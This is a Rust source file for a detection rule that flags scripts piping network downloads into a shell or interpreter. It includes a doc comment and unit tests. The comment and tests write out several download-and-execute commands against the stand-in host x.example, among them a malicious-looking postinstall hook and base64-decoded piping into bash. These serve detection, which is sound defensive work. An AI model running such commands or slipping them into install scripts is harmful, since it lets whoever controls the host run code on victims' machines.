//! **What.** A shell or another interpreter runs a text that comes straight from the network: `curl ... | sh`,
//! `bash <(curl ...)`, `sh -c "$(wget -qO- ...)"`, `node -e "$(curl ...)"`, or the same made in code.
//!
//! **Why.** Nothing is kept that could be looked at later, and whoever holds the address decides what each victim runs. It is
//! the shortest downloader and the most common line in malicious lifecycle scripts.
//!
//! **Example.** `"postinstall": "curl -fsSL https://x.example/i.sh | sh"`
//!
//! **Benign look-alike.** A script saves a download, checks it with `sha256sum -c` and only then runs it; `curl` output goes
//! into `tar`, `jq` or `grep`. The same line with the maker's own host is suspicious, not malicious.
//!
//! Since 0.1.0.

use super::commands::{FETCHERS, INTERPRETERS, base_name, from_program, pipelines};
use super::flow::How;
use super::hosts::{host_of, reach};
use super::{Confidence, Finding, Meta, Reach, Rule, Severity, View};
use crate::trace::{Event, Kind};
use std::collections::BTreeSet;

/// The rule.
#[derive(Debug)]
pub(super) struct Check;

impl Rule for Check {
    const META: Meta = Meta {
        id: "pipe-to-shell",
        title: "A script from the network is piped into an interpreter",
        severity: Severity::High,
        confidence: Confidence::High,
        technique: "T1059.004",
        phases: &[],
    };

    fn check(view: &View<'_>) -> Vec<Finding> {
        let mut told: BTreeSet<(u32, String)> = BTreeSet::new();
        let mut found = Vec::new();
        for (text, event) in view.shell_texts() {
            for line in fed_interpreters(&text) {
                let requests = requests(view, event, &line);
                let host = requests
                    .first()
                    .map(|event| view.host(event))
                    .or(line.host.clone())
                    .unwrap_or_default();
                if told.insert((event.run, host.clone())) {
                    found.extend(judge(view, event, &requests, &host, &line.interpreter));
                }
            }
        }
        for download in view.downloads() {
            let host = view.host(download.source);
            if matches!(download.run.how, How::Input | How::Argument)
                && told.insert((download.source.run, host.clone()))
            {
                let name = match download.run.how {
                    How::Input => view.program(download.run.event),
                    _ => view
                        .argv(download.run.event)
                        .first()
                        .map(|path| base_name(path))
                        .unwrap_or_default(),
                };
                found.extend(judge(
                    view,
                    download.run.event,
                    &[download.source],
                    &host,
                    &name,
                ));
            }
        }
        found
    }
}

fn judge(
    view: &View<'_>,
    event: &Event,
    requests: &[&Event],
    host: &str,
    interpreter: &str,
) -> Option<Finding> {
    let (severity, confidence) = match (reach(&view.trace().header, host), requests.is_empty()) {
        (Reach::Local, _) if !host.is_empty() => return None,
        // The line stands there, but nothing was fetched: it may be behind a condition.
        (_, true) => (Severity::Medium, Confidence::Medium),
        (Reach::Own | Reach::Registry, false) => (Severity::High, Confidence::Medium),
        (_, false) => (Severity::High, Confidence::High),
    };
    let from = if host.is_empty() { "the network" } else { host };
    let interpreter = if interpreter.is_empty() {
        "an interpreter"
    } else {
        interpreter
    };
    let events: Vec<&Event> = [event]
        .into_iter()
        .chain(requests.iter().copied())
        .collect();
    let detail = format!("{interpreter} runs a script that comes straight from {from}");
    Some(
        Check::META
            .finding(view, &events, detail)
            .graded(severity, confidence),
    )
}

/// A place in a shell text where a fetching program feeds an interpreter.
struct Fed {
    interpreter: String,
    host: Option<String>,
}

fn fed_interpreters(text: &str) -> Vec<Fed> {
    let mut found = Vec::new();
    for pipeline in pipelines(text) {
        let mut fetch: Option<Option<String>> = None;
        for command in &pipeline {
            let words = from_program(command);
            let name = words
                .first()
                .map(|word| base_name(word))
                .unwrap_or_default();
            let evaluates = command.first().is_some_and(|word| word == "eval");
            if FETCHERS.contains(&name.as_str()) {
                fetch = Some(
                    words
                        .iter()
                        .find(|word| word.contains("://"))
                        .map(|word| host_of(word)),
                );
            } else if INTERPRETERS.contains(&name.as_str()) || evaluates {
                let substituted = words.iter().find_map(|word| substituted_fetch(word));
                // With an operand of its own an interpreter reads the pipe as data.
                let reads_pipe = !words
                    .iter()
                    .skip(1)
                    .any(|word| !word.starts_with('-') && word != "/dev/stdin");
                let piped = fetch
                    .clone()
                    .filter(|_| reads_pipe || words.iter().any(|word| word == "-s"));
                found.extend(substituted.or(piped).map(|host| Fed {
                    interpreter: name,
                    host,
                }));
            }
        }
    }
    found
}

/// The host that a fetch inside `$(...)`, backquotes or `<(...)` of a word asks, if there is one.
fn substituted_fetch(word: &str) -> Option<Option<String>> {
    let start = ["$(", "<(", "`"]
        .iter()
        .filter_map(|open| word.find(open))
        .min()?;
    let inner = word.get(start..)?;
    let commands = pipelines(inner.trim_start_matches(['$', '<', '(', '`']));
    let commands = commands.first()?;
    let words = from_program(commands.first()?);
    let fetches = FETCHERS.contains(&base_name(words.first()?).as_str());
    fetches.then(|| {
        words
            .iter()
            .find(|word| word.contains("://"))
            .map(|word| host_of(word.trim_end_matches([')', '`'])))
    })
}

/// The requests that the line made: those of its host, or those of fetching programs where it names none.
fn requests<'t>(view: &View<'t>, event: &Event, line: &Fed) -> Vec<&'t Event> {
    let all = view.of_any(&[Kind::NetHttp, Kind::NetConnect]);
    let of_run = all.into_iter().filter(|request| request.run == event.run);
    of_run
        .filter(|request| match &line.host {
            Some(host) => view.host(request) == *host,
            None => FETCHERS.contains(&view.program(request).as_str()),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::TraceBuilder;

    fn hosts(text: &str) -> Vec<Option<String>> {
        fed_interpreters(text)
            .into_iter()
            .map(|fed| fed.host)
            .collect()
    }

    #[test]
    fn every_spelling_is_understood() {
        let host = Some("x.example".to_owned());
        for text in [
            "curl -fsSL https://x.example/i.sh | sh",
            "true; wget -qO- http://x.example | sudo -E bash -s -- --now",
            "bash <(curl -s https://x.example/i.sh)",
            "sh -c \"$(curl -fsSL https://x.example/i.sh)\"",
            "eval `curl https://x.example/i.sh`",
            "curl https://x.example/i.js | node -",
            "curl https://x.example/i.b64 | base64 -d | bash",
            "node -e \"$(curl https://x.example/i.js)\"",
        ] {
            assert_eq!(hosts(text), std::slice::from_ref(&host), "{text}");
        }
    }

    #[test]
    fn other_uses_of_a_download_are_not_it() {
        for text in [
            "curl -o f https://x.example/i.sh && sha256sum -c s && sh f",
            "curl https://x.example/a.tgz | tar xz",
            "curl https://x.example/a.json | node ./filter.js",
            "echo 'curl https://x.example | sh'",
        ] {
            assert!(hosts(text).is_empty(), "{text}");
        }
    }

    #[test]
    fn a_line_that_was_run_is_malicious_and_one_that_was_not_is_less() {
        let line = "curl -s https://x.example/i.sh | sh";
        let mut builder = TraceBuilder::new();
        builder.spawn(&["sh", "-c", line]);
        assert_eq!(builder.check::<Check>()[0].confidence, Confidence::Medium);
        let mut builder = TraceBuilder::new();
        builder.spawn(&["sh", "-c", line]);
        builder.event(Kind::NetHttp, "GET https://x.example/i.sh");
        let found = builder.check::<Check>();
        assert_eq!((found.len(), found[0].confidence), (1, Confidence::High));
    }

    #[test]
    fn a_command_received_and_handed_to_a_shell_is_found() {
        let mut builder = TraceBuilder::new();
        builder.payload(
            Kind::NetRecv,
            "x.example:443",
            b"echo INERT-PAYLOAD from afar",
        );
        builder.spawn(&["/bin/sh", "-c", "echo INERT-PAYLOAD from afar"]);
        assert_eq!(builder.check::<Check>().len(), 1);
    }
}
